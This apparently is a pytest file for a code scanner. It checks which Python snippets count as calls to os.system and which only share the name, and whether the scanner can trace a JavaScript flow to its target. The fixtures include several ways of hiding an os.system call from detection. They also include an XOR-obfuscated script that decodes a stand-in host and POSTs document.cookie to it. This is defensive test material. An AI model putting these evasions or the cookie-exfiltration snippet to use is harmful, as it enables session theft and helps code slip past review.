"""Which words make a file worth an evaluation, and which only look like them."""

import pytest
from engine_flows import program_of

from ostiary.program.engine.noted import Word
from ostiary.program.engine.words import hits
from ostiary.program.flow import Flow

USED = [
    "os.system('true')",
    "os . system('true')",
    "os.\\\n    system('true')",
    "run = os.system\n",
    "run(os.system)",
    "from os import system\nsystem('true')",
    "from os import path, system as run\nrun('true')",
    "from os import (\n    path,\n    system,\n)\nrun(system)",
    "from helper import *\nrun(system)",
    "from helper import *\nsystem ('true')",
    "getattr(os, 'system')('true')",
    "vars(os)['system']('true')",
    "os.__dict__[\"system\"]('true')",
    "attrgetter('system')(os)('true')",
    "ctypes.CDLL(None)['system'](b'true')",
]
OWN = [
    "system = [x + y, x - y]\nsolve(system, x)",
    "self.system.add_bodies(one)",
    "if system == 'linux':\n    pass",
    "messages = [{'role': 'system', 'content': text}]",
    "name = platform.system()",
    "def system(self):\n    pass",
    "return solve(system, variables)",
    "system[0]",
    "# a system of equations",
]


@pytest.mark.parametrize("text", USED)
def test_a_function_of_the_library_is_seen(text: str) -> None:
    assert hits(text.encode(), script=False).kinds & Word.SINK


@pytest.mark.parametrize("text", OWN)
def test_what_bears_its_name_is_not(text: str) -> None:
    assert not hits(text.encode(), script=False).kinds & Word.SINK


def test_in_a_script_it_says_nothing() -> None:
    text = b"const system = parts.map(one => compile(one)); // requests"
    assert not hits(text).kinds & (Word.SINK | Word.EXECUTE)


DECODES = """
var codes = [%s], place = '';
for (var i = 0; i < codes.length; i++) place += String.fromCharCode(codes[i] ^ 3);
fetch(place, {method: 'POST', body: document.cookie});
"""
PLACE = "https://collect.example.invalid/"
PAGE = DECODES % ", ".join(str(ord(one) ^ 3) for one in PLACE)
BUSY = "for (var j = 0; j < 9000; j++) { var other = j; }\n"
"""More than is run to its end in a file that may decode no more than any other one."""
LONG = "/* " + "a library of pages " * 1500 + "*/\n"


def sent(form: str, text: str) -> list[Flow]:
    path = {"wheel": "sample/static/page.js", "npm": "index.js"}[form]
    return [one for one in program_of(form, {path: text}).flows if "fetch" in one.name]


@pytest.mark.parametrize(
    ("form", "text", "known"),
    [
        ("npm", PAGE, True),
        ("npm", LONG + PAGE, True),
        ("wheel", PAGE, True),
        ("wheel", LONG + PAGE + "eval(place);", True),
        ("wheel", LONG + PAGE, True),
        ("wheel", LONG + BUSY + PAGE, False),
    ],
)
def test_a_large_script_of_a_page_decodes_only_if_it_executes(
    form: str, text: str, known: bool
) -> None:
    found = sent(form, text)
    assert found, "what it sends is seen, whether or not it is known where to"
    assert any(PLACE in (one.text + one.target) for one in found) is known
